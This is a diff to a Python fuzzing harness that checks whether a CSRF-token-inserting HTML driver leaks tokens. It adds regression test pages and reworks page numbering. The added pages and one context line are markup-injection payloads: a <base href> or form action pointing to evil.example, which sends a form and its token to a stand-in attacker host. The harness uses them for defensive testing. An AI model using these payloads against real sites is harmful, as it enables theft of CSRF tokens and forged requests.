@@ -172,6 +172,21 @@ FIXED = LEGIT + [pre + REAL + post for pre in (
     '<form action="https://evil.example/steal" method="post"><b><div></form><i>',
 ) for post in ("", "</a>", "</div>", "<a href=/next>next</a>", "</b></i><p>footer")]
 
+# Pages the oracle found leaking, reduced, judged after FIXED on every run
+# (cut with an rng of their own, so that a seed's random pages stay the
+# same pages at the same numbers).
+REGRESSIONS = [
+    # seed 101, page 20985: a form without an action closed with a <div>
+    # open in it, a relative formaction after it (the div's, so the
+    # form's), then a <base> elsewhere: CSRF_INJECT_LATE_BASE
+    '<form method="POST"><div></form><button formaction="/t">x</button><base href="//evil.example/">',
+    '<form method=post><table><tr><td></form><input type=image formaction=t><base href="//evil.example/">',
+    # the same through form="", after and before the form it names
+    '<form id=f method=post></form><button form=f formaction="/t">x</button><base href="//evil.example/">',
+    '<button form=f formaction="/t">x</button><form id=f method=post></form><base href="//evil.example/">',
+    '<button form=f formaction="/t">x</button><base href="//evil.example/"><form id=f method=post></form>',
+]
+
 
 def fragment(rng, in_template):
     r = rng.random()
@@ -634,22 +649,32 @@ def main():
     rng = random.Random(args.seed)
     drv = subprocess.Popen([args.driver], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
     pages_with_token = tokens = owned = 0
-    for n in range(len(FIXED) + args.pages):
-        page = (FIXED[n] if n < len(FIXED) else make_page(rng)).encode("latin-1")
-        cuts = sorted(rng.sample(range(1, len(page)), min(len(page) - 1, rng.randint(0, 8))))
+    fixed = len(FIXED)
+    for k in range(fixed + len(REGRESSIONS) + args.pages):
+        # n: the page's number (random pages keep theirs of before the
+        # regressions came), label: how it is named
+        if k < fixed:
+            n, page, cut_rng = k, FIXED[k], rng
+        elif k < fixed + len(REGRESSIONS):
+            n, page, cut_rng = -1, REGRESSIONS[k - fixed], random.Random(k)
+        else:
+            n, page, cut_rng = k - len(REGRESSIONS), make_page(rng), rng
+        label = "page %d" % n if n >= 0 else "regression %d" % (k - fixed)
+        page = page.encode("latin-1")
+        cuts = sorted(cut_rng.sample(range(1, len(page)), min(len(page) - 1, cut_rng.randint(0, 8))))
         drv.stdin.write(("%d %d %s\n" % (len(page), len(cuts), " ".join(map(str, cuts)))).encode())
         drv.stdin.write(page)
         drv.stdin.flush()
         head = drv.stdout.readline().decode()
         if head.startswith("ERR") or not head:
-            print("page %d: driver: %s" % (n, head.strip() or "no answer"))
+            print("%s: driver: %s" % (label, head.strip() or "no answer"))
             print(page.decode("latin-1"))
             return 1
         out_len, count, status = (int(x) for x in head.split())
         out = drv.stdout.read(out_len).decode("latin-1")
-        if n < len(LEGIT) and (count != 1 or status != 0):
-            print("page %d: a form in an ordinary table layout lost its token (count %d, status %#x)" %
-                  (n, count, status))
+        if 0 <= n < len(LEGIT) and (count != 1 or status != 0):
+            print("%s: a form in an ordinary table layout lost its token (count %d, status %#x)" %
+                  (label, count, status))
             print("input:  " + page.decode("latin-1"))
             return 1
         if count:
@@ -658,13 +683,13 @@ def main():
         for scripting in (True, False):
             bad, good = leaks(out, scripting, status)
             if bad:
-                print("page %d (seed %d, scripting %s): an injected field leaks: %s" %
-                      (n, args.seed, "on" if scripting else "off", bad[0]))
+                print("%s (seed %d, scripting %s): an injected field leaks: %s" %
+                      (label, args.seed, "on" if scripting else "off", bad[0]))
                 print("input:  " + page.decode("latin-1"))
                 print("output: " + out)
                 return 1
             owned += good
-        if args.report and (n + 1) % args.report == 0:
+        if args.report and n >= 0 and (n + 1) % args.report == 0:
             print("%d pages, %d with a token" % (n + 1, pages_with_token), flush=True)
     drv.stdin.close()
     if drv.wait() != 0:
